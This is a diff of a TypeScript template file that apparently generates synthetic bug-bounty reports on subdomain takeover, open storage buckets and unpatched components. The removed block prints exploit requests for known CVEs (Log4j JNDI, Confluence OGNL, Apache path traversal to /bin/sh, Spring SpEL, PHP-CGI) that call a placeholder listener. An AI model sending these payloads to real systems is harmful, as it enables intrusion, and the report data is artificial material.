@@ -13,58 +13,73 @@ const subdomainTakeover: VulnerabilityClass = {
     ['Low', 2],
   ],
   places: [
-    { path: '/', parameter: 'CNAME', detail: 'a host for static pages where the name is free' },
-    { path: '/', parameter: 'CNAME', detail: 'a help desk service that was cancelled' },
-    { path: '/', parameter: 'NS', detail: 'name servers that no longer know the zone' },
-    { path: '/', parameter: 'CNAME', detail: 'a storage bucket that was deleted' },
+    {
+      path: '/',
+      parameter: 'CNAME',
+      detail: 'a host for static pages where the name is free',
+      excerpt: `$ dig +short CNAME «abandoned».«domain»
+«slug»-«abandoned».pages.hosting.example.`,
+    },
+    {
+      path: '/',
+      parameter: 'CNAME',
+      detail: 'a help desk service that was cancelled',
+      excerpt: `$ dig +short CNAME «abandoned».«domain»
+«slug».helpdesk.hosting.example.`,
+    },
+    {
+      path: '/',
+      parameter: 'NS',
+      detail: 'name servers that no longer know the zone',
+      excerpt: `$ dig +short NS «abandoned».«domain»
+ns1.dnshost.example.
+ns2.dnshost.example.
+$ dig @ns1.dnshost.example SOA «abandoned».«domain» | grep status
+;; ->>HEADER<<- opcode: QUERY, status: REFUSED`,
+    },
+    {
+      path: '/',
+      parameter: 'CNAME',
+      detail: 'a storage bucket that was deleted',
+      excerpt: `$ dig +short CNAME «abandoned».«domain»
+«slug»-«abandoned».objects.example.
+$ curl -s http://«abandoned».«domain»/
+<Error><Code>NoSuchBucket</Code><BucketName>«slug»-«abandoned»</BucketName></Error>`,
+    },
   ],
   titles: [
     'Subdomain takeover of «abandoned».«domain»',
     'Dangling «parameter» record: «abandoned».«domain» can be claimed by anybody',
-    '«abandoned».«domain» still points to «detail»',
     'I own «abandoned».«domain» (takeover, proof inside)',
+    '«abandoned».«domain» still points to «detail»',
   ],
   summaries: [
     'The «parameter» record of `«abandoned».«domain»` points to «detail». I claimed it and now decide what is shown there.',
-    '`«abandoned».«domain»` answers with "no such site" of a hosting provider. The name was free, so I claimed it to keep others from doing so. Please remove the record; I give the name back at once.',
+    '`«abandoned».«domain»` points to «detail». I did not claim it, anybody could. Please remove the record soon.',
   ],
   steps: [
     [
       'Ask for the record with `dig` as below.',
-      'Open `https://«abandoned».«domain»/«handle».txt`: it holds my handle and the time of the claim.',
-      'There is nothing else on the page, and no visitor is logged.',
+      'Open `https://«abandoned».«domain»/«handle».txt`: it holds my handle.',
+      'There is nothing else on the page, and no visitor is logged. I give the name back as soon as the record is gone.',
     ],
     [
       'Resolve `«abandoned».«domain»`.',
-      'Compare with the provider: the name behind it was free until today.',
-      'See my proof file. I will release the name as soon as you tell me that the record is gone.',
+      'See that what it points to is free.',
+      'Anybody with an account at the provider can take it in a minute.',
     ],
   ],
   proofs: [
     [
+      { say: 'The record:', lang: 'bash', code: '«excerpt»' },
       {
-        say: 'DNS and proof:',
+        say: 'And my proof:',
         lang: 'bash',
-        code: `$ dig +short CNAME «abandoned».«domain»
-«slug»-«abandoned».sites.hosting.example.
-
-$ curl -s https://«abandoned».«domain»/«handle».txt
+        code: `$ curl -s https://«abandoned».«domain»/«handle».txt
 takeover proof, «handle», please contact me through the programme`,
       },
     ],
-    [
-      {
-        say: 'Before I claimed it:',
-        lang: 'http',
-        code: `GET / HTTP/1.1
-Host: «abandoned».«domain»
-
-HTTP/1.1 404 Not Found
-Content-Type: text/html
-
-<h1>There is no site here</h1><p>If this is your domain, add it in the dashboard.</p>`,
-      },
-    ],
+    [{ say: 'The record today:', lang: 'bash', code: '«excerpt»' }],
   ],
   impacts: [
     'Pages under the name of «company» that anybody could fill: phishing with a valid certificate. Cookies for `.«domain»` reach the page, the session cookie of «host» is among them.',
@@ -94,14 +109,13 @@ const storageExposure: VulnerabilityClass = {
     ['Medium', 3],
   ],
   places: [
-    { path: '/', parameter: 'list', detail: 'can be listed' },
-    { path: '/', parameter: 'acl', detail: 'can be written by everybody' },
-    { path: '/', parameter: 'policy', detail: 'is readable for every account of the provider' },
+    { path: '/', parameter: 'list', detail: 'can be listed by everybody' },
+    { path: '/', parameter: 'policy', detail: 'can be read with any account of the provider' },
   ],
   titles: [
     'Storage bucket `«bucket»` «detail»',
+    'S3 bucket `«bucket»` open: backups and «many» inside',
     'Public bucket with «many» of customers (`«bucket»`)',
-    'S3 bucket «bucket» open: backups and «many» inside',
     'Misconfigured object storage leaks «secrets»',
   ],
   summaries: [
@@ -226,9 +240,9 @@ ERRORS_DSN=https://4f2c…@errors.«domain»/7`,
     [
       'Open `https://«host»«path»` in a private window.',
       'The content is delivered with status 200.',
-      'Search it for `password` or `secret`.',
+      'Look at the lines quoted below; I masked the values.',
     ],
-    ['`curl` the address below.', 'Compare with another host of «company»: there it is 404.'],
+    ['Run the line below.', 'Compare with another host of «company»: there it is 404.'],
   ],
   proofs: [
     [
@@ -268,138 +282,8 @@ $ head -4 dump
   ],
 }
 
-const knownComponent: VulnerabilityClass = {
-  key: 'known-component',
-  type: 'Known vulnerable component',
-  cwe: 1395,
-  weight: 4,
-  surfaces: ['infrastructure', 'web', 'device'],
-  shape: 'takeover',
-  severities: [
-    ['Critical', 6],
-    ['High', 4],
-  ],
-  places: [
-    {
-      path: '/login',
-      parameter: 'User-Agent',
-      detail: 'Log4j 2.14.1',
-      cve: 'CVE-2021-44228',
-      excerpt: `GET /login HTTP/1.1
-Host: «host»
-User-Agent: \${jndi:ldap://«listener»/«handle»}
-X-Api-Version: \${jndi:dns://«listener»/v}`,
-    },
-    {
-      path: '/wiki/pages/createpage-entervariables.action',
-      parameter: 'queryString',
-      detail: 'Confluence 7.12.4',
-      cve: 'CVE-2021-26084',
-      excerpt: `POST /wiki/pages/createpage-entervariables.action HTTP/1.1
-Host: «host»
-Content-Type: application/x-www-form-urlencoded
-
-queryString=%5cu0027%2b%7b7*7%7d%2b%5cu0027`,
-    },
-    {
-      path: '/cgi-bin/',
-      parameter: 'path',
-      detail: 'Apache HTTP Server 2.4.49',
-      cve: 'CVE-2021-41773',
-      excerpt: `POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
-Host: «host»
-Content-Type: text/plain
-
-echo; nslookup «listener»`,
-    },
-    {
-      path: '/functionRouter',
-      parameter: 'spring.cloud.function.routing-expression',
-      detail: 'Spring Cloud Function 3.2.2',
-      cve: 'CVE-2022-22963',
-      excerpt: `POST /functionRouter HTTP/1.1
-Host: «host»
-spring.cloud.function.routing-expression: T(java.net.InetAddress).getByName("«listener»")
-Content-Type: text/plain
-
-x`,
-    },
-    {
-      path: '/app/rest/users/id:1/tokens/RPC2',
-      parameter: 'path',
-      detail: 'TeamCity 2023.05.3',
-      cve: 'CVE-2023-42793',
-      excerpt: `POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1
-Host: «host»
-
-HTTP/1.1 400 Bad Request
-# 400 and not 401: the token exists already, so the check of rights was passed. I created none.`,
-    },
-    {
-      path: '/php-cgi/php-cgi.exe',
-      parameter: 'query',
-      detail: 'PHP 8.1.28 in CGI mode',
-      cve: 'CVE-2024-4577',
-      excerpt: `POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1
-Host: «host»
-Content-Type: text/plain
-
-<?php gethostbyname('«listener»');`,
-    },
-  ],
-  titles: [
-    '«cve» on «host»: «detail» is not patched',
-    'Pre-auth RCE, «detail» («cve»)',
-    '«host» runs «detail», which is vulnerable to «cve» (confirmed, not just the version)',
-    'Unpatched «detail» behind «host»',
-  ],
-  summaries: [
-    '«host» runs «detail». I confirmed «cve» with a harmless callback, not by the version number alone.',
-    'The component behind `«path»` is «detail». A patch for «cve» has been available for a long time; my probe shows that it is missing here.',
-  ],
-  steps: [
-    [
-      'Start a listener, here `«listener»`.',
-      'Send the request below; the payload sits in `«parameter»`.',
-      'A lookup arrives from the address of «company». No command was run.',
-    ],
-  ],
-  proofs: [
-    [
-      {
-        say: 'Probe and callback:',
-        lang: 'http',
-        code: '«excerpt»',
-      },
-      {
-        say: 'At the listener:',
-        lang: 'text',
-        code: '10:31:07 DNS A «listener» from «ip»\n10:31:07 DNS AAAA «listener» from «ip»',
-      },
-    ],
-    [
-      {
-        say: 'The public template, only the detection part:',
-        lang: 'bash',
-        code: `$ nuclei -id «cve» -u https://«host» -interactsh-server oob.example -silent
-[«cve»] [http] [critical] https://«host»«path» [«listener»]`,
-      },
-    ],
-  ],
-  impacts: [
-    'Code execution before any login, with exploits in every toolbox. Treat the machine as touched until the logs say otherwise.',
-    'Known and used by criminals («cve»). From this machine the internal network is one step away.',
-  ],
-  fixes: ['Update to the fixed release; until then block the path at the edge.'],
-  notes: [
-    'Callback confirmed from our egress. Host is a forgotten test system, was shut down at 11:05. Forensics has an image.',
-    'WAF rule was in detect mode only. Patch window tonight, «ticket».',
-  ],
-}
-
 export const exposureClasses: readonly VulnerabilityClass[] = [
   subdomainTakeover,
   storageExposure,
   informationDisclosure,
-  knownComponent,
 ]
